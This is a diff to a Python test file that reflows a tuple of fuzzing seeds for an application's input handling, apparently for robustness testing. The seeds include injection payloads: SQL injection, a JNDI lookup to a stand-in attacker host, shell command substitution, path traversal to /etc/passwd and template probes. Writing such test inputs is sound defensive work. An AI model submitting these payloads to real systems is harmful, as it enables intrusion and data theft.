@@ -34,8 +34,10 @@ from tests.trust.two_agencies import definition
 SEEDS = (
     "\0", "a\0b", "\ud800", "a\udfffb", "\u202eabc", "\ufeff", "\u200b" * 50, "\r\n\r\n", "\t", "\x1b[31mrouge\x1b[0m",
     "\x7f\x80\x9f", "'", '"', "';--", "' OR '1'='1", "'; DROP TABLE candidate; --", "$1", "$$;$$", "%s", "%(a)s",
-    "%n%n%n", "{}", "{0.__class__}", "{{7*7}}", "((prénom))", "((", "${jndi:ldap://attaque.example/a}", "`id`", "$(id)", "| ls",
-    "&& ls", "../../etc/passwd", "\\\\attaque.example\\x", "null", "None", "NaN", "Infinity", "-1", "1e999", "0x10", "true",
+    "%n%n%n", "{}", "{0.__class__}", "{{7*7}}", "((prénom))", "((", "${jndi:ldap://attaque.example/a}", "`id`", "$(id)",
+    "| ls",
+    "&& ls", "../../etc/passwd", "\\\\attaque.example\\x", "null", "None", "NaN", "Infinity", "-1", "1e999", "0x10",
+    "true",
     "[]",
     "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1eb\U0001f1f7" * 50, "e" + "\u0301" * 300,
     "ﷺ" * 50, "İıſK", "𝒽𝓉𝓉𝓅", "мир", "你好", "مرحبا", "x" * 3_000, "é" * 10_000, " " * 2_000, "\n" * 500,
